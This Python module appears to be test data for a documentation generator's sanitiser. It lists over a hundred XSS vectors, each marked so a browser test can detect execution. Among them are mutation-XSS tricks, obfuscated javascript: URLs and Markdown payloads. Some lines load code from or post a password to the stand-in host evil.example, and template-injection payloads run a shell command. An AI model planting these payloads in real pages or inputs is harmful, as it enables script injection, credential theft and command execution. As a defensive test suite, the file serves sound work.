"""Well-known XSS vectors, each carrying a payload marker so a browser test can tell if it ran.

Every vector holds ``{js}`` where its JavaScript goes; :func:`vectors` fills it with
``hgxss(N)``, a call no helpgen page ever contains, so any script that runs (or is even
compiled) with ``hgxss`` in it is a payload. A few vectors cannot carry the marker (base64 or
entity-encoded URLs): those are ``javascript:``/``data:`` URLs, which the browser test
catches by scheme instead.

Sources: the OWASP XSS filter evasion cheat sheet, PortSwigger's XSS cheat sheet, the
DOMPurify and html5sec.org test suites (mutation XSS), and Markdown-specific vectors.
"""

from __future__ import annotations

MARKER = "hgxss"
"""The payload function's name: no helpgen page or script ever contains it."""

EVIL_HOST = "evil.example"
"""Every vector that loads something names this host: no request may ever reach it."""

_VECTORS: tuple[str, ...] = (
    # --- script elements
    "<script>{js}</script>",
    "<SCRIPT>{js}</SCRIPT>",
    "<script src=//evil.example/x.js></script>",
    '<script type="module">{js}</script>',
    "<scr<script>ipt>{js}</scr</script>ipt>",
    "<script>/*</script><script>*/{js}</script>",
    "<<script>{js};//<</script>",
    '<script\x20type="text/javascript">{js};</script>',
    "</title><script>{js}</script>",
    "</textarea><script>{js}</script>",
    "</script><script>{js}</script>",
    '</script><script type="application/ld+json">{{"x":"</script><script>{js}</script>"}}',
    "<script>document.write('<img src=x onerror={js}>')</script>",
    # --- event handlers
    "<img src=x onerror={js}>",
    "<IMG SRC=x ONERROR={js}>",
    "<img src=x onerror=alert({js})>",
    "<img src=x:alert(alt) onerror=eval(src) alt={js}>",
    '<img src="x" onerror="&#x2F;&#x2F;&#10;{js}">',
    "<img/src=x/onerror={js}>",
    "<img\tsrc=x\tonerror={js}>",
    "<img src=x onerror\x0b={js}>",
    "<body onload={js}>",
    "<body onpageshow={js}>",
    "<details open ontoggle={js}><summary>x</summary></details>",
    "<a href=/x onmouseover={js}>hover me</a>",
    "<div onpointerenter={js}>point</div>",
    "<p onclick={js}>click me</p>",
    "<input onfocus={js} autofocus>",
    "<select autofocus onfocus={js}></select>",
    "<textarea autofocus onfocus={js}></textarea>",
    "<keygen autofocus onfocus={js}>",
    "<video><source onerror={js}></video>",
    "<audio src=x onerror={js}>",
    "<video poster=javascript:{js}//></video>",
    "<marquee onstart={js}>x</marquee>",
    "<style onload={js}></style>",
    "<link rel=stylesheet href=x onload={js}>",
    '<div style="animation-name:spin" onanimationstart={js}>x</div>',
    "<table background=x onerror={js}><tr><td>x</td></tr></table>",
    "<object data=x onerror={js}></object>",
    "<x onclick={js}>custom element</x>",
    "<img src=x onerror='{js}'>",
    '<img src=x onerror="{js}">',
    "<img src=x onerror=`{js}`>",
    # --- svg and math
    "<svg onload={js}>",
    "<svg/onload={js}>",
    "<svg><script>{js}</script></svg>",
    '<svg><a xlink:href="javascript:{js}"><text y=20>x</text></a></svg>',
    "<svg><animate onbegin={js} attributeName=x dur=1s>",
    '<svg><set attributeName="onload" to="{js}"/></svg>',
    "<svg><foreignObject><img src=x onerror={js}></foreignObject></svg>",
    '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=1 onerror={js} /></svg>#x"></use></svg>',
    '<math href="javascript:{js}">click</math>',
    "<math><mi xlink:href='javascript:{js}'>x</mi></math>",
    # --- mutation XSS and parser differentials
    "<math><mtext><table><mglyph><style><img src=x onerror={js}>",
    '<noscript><p title="</noscript><img src=x onerror={js}>">',
    "<svg></p><style><a id=\"</style><img src=1 onerror={js}>\">",
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror={js}>',
    "<xmp><img src=x onerror={js}></xmp>",
    "<template><img src=x onerror={js}></template>",
    "<noembed><img src=x onerror={js}></noembed>",
    "<plaintext><img src=x onerror={js}>",
    "<listing>&lt;img src=x onerror={js}&gt;</listing>",
    "<!--<img src=x onerror={js}>-->",
    "<!--><img src=x onerror={js}>-->",
    "<![CDATA[<script>{js}</script>]]>",
    "<?xml-stylesheet href=javascript:{js}?>",
    "<a title='<!--' href=x>--><img src=x onerror={js}></a>",
    '<img alt="x" title="y"onerror={js}>',
    "<img alt='x' onerror={js}//'>",
    '"><script>{js}</script>',
    "'><img src=x onerror={js}>",
    '" onmouseover="{js}" x="',
    "' onfocus='{js}' autofocus x='",
    "` onmouseover=`{js}`",
    # --- frames, objects, embeds, forms
    '<iframe src="javascript:{js}"></iframe>',
    '<iframe srcdoc="<script>{js}</script>"></iframe>',
    "<iframe src=//evil.example/frame></iframe>",
    '<iframe src="https://www.youtube.com.evil.example/embed/x"></iframe>',
    '<object data="javascript:{js}"></object>',
    '<embed src="javascript:{js}">',
    '<form action="javascript:{js}"><input type=submit value=go></form>',
    '<form action="https://evil.example/steal"><input name=password><button>Log in</button></form>',
    '<button formaction="javascript:{js}">x</button>',
    '<input type=image src="javascript:{js}">',
    '<isindex action="javascript:{js}" type=submit>',
    '<frameset><frame src="javascript:{js}"></frameset>',
    # --- head elements
    '<meta http-equiv="refresh" content="0;url=javascript:{js}">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<base href="javascript:{js}//">',
    "<base href=https://evil.example/>",
    '<link rel=stylesheet href="https://evil.example/x.css">',
    '<link rel=import href="https://evil.example/x.html">',
    # --- javascript: and data: URLs, obfuscated
    '<a href="javascript:{js}">x</a>',
    '<a href="JaVaScRiPt:{js}">x</a>',
    '<a href="jav&#x09;ascript:{js}">x</a>',
    '<a href="jav&#x0A;ascript:{js}">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;{js}">x</a>',
    '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;{js}">x</a>',
    '<a href="&#0000106avascript:{js}">x</a>',
    '<a href="javascript&colon;{js}">x</a>',
    '<a href=" &#14; javascript:{js}">x</a>',
    '<a href="\x01javascript:{js}">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="data:text/html,<script>{js}</script>">x</a>',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<img src="javascript:{js}">',
    '<img srcset="javascript:{js} 1x">',
    '<img srcset="https://evil.example/x.png 1x">',
    '<a href="//evil.example/%2F..">protocol-relative</a>',
    '<a href="https://evil.example/" target=_blank>tabnabbing</a>',
    # --- styles
    "<div style=\"background:url('javascript:{js}')\">x</div>",
    '<p style="width: expression({js})">x</p>',
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>body{{background:url(https://evil.example/x.png)}}</style>",
    '<div style="background-image:url(https://evil.example/x.png)">x</div>',
    '<p style="position:fixed;inset:0;z-index:9999;background:red">overlay</p>',
    # --- Markdown syntax
    "[click](javascript:{js})",
    "[click](JAVASCRIPT:{js})",
    "[click](jav&#x09;ascript:{js})",
    "[click](&#106;avascript:{js})",
    "[click](<javascript:{js}>)",
    "[click][ref]\n\n[ref]: javascript:{js}",
    "![img](javascript:{js})",
    "![img](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "[x](data:text/html,<script>{js}</script>)",
    "[x](vbscript:msgbox(1))",
    "<javascript:{js}>",
    '[x](/ok "title\\" onmouseover=\\"{js}")',
    '![x" onerror="{js}](/a.png)',
    '```"><script>{js}</script>\ncode\n```',
    "## <img src=x onerror={js}> heading",
    "> [!NOTE]\n> <script>{js}</script>",
    "- [ ] <img src=x onerror={js}>",
    "| a |\n|---|\n| <script>{js}</script> |",
    "[^1]\n\n[^1]: <img src=x onerror={js}>",
    "<details><summary onclick={js}>x</summary></details>",
    # --- template and JSON injection (content is data, never a template)
    "{{{{ lipsum.__globals__['os'].popen('id').read() }}}}",
    "{{% for x in ().__class__.__base__.__subclasses__() %}}{{{{ x }}}}{{% endfor %}}",
    "${{{js}}}",
    '{{"@context": "</script><script>{js}</script>"}}',
    "\u2028\u2029</script><script>{js}</script>",
    # --- unicode tricks
    "\uff1cscript\uff1e{js}\uff1c/script\uff1e",
    "\u202e<img src=x onerror={js}>",
    "<img src=x onerror={js}\u0000>",
)


def vectors() -> list[str]:
    """Every vector with its marker filled in: ``hgxss(1)``, ``hgxss(2)``, ..."""
    return [vector.format(js=f"{MARKER}({number})") for number, vector in enumerate(_VECTORS, 1)]


VECTORS: list[str] = vectors()
